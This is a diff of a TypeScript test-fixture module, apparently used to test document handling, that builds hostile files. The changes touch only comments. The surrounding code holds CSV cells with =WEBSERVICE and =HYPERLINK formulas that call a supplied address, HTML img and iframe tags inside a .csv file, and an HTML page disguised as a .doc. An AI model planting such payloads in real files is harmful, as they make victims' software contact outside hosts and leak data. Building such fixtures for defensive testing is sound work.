@@ -82,12 +82,12 @@ export function hostileDocuments(address: string, file: string): HostileDocument
         `a,b\n"=WEBSERVICE(""${address}/csv"")","='${url}'#$Sheet1.A1"\n"=HYPERLINK(""${address}/link"")",1\n`,
       ),
     },
-    // Text, as far as its first bytes tell: it is laid out as a table.
+    // Its first bytes are text: it is laid out as a table.
     { name: 'page.csv', bytes: Buffer.from(`<img src="${address}/page.png"><iframe src="${url}"></iframe>\n`) },
   ];
 }
 
-/** A web page that is called a document: its bytes are none. */
+/** A web page with a document's extension: its bytes are no document. */
 export function pageCalledDocument(address: string): HostileDocument {
   return { name: 'page.doc', bytes: Buffer.from(`<html><body><img src="${address}/html.png">x</body></html>`) };
 }
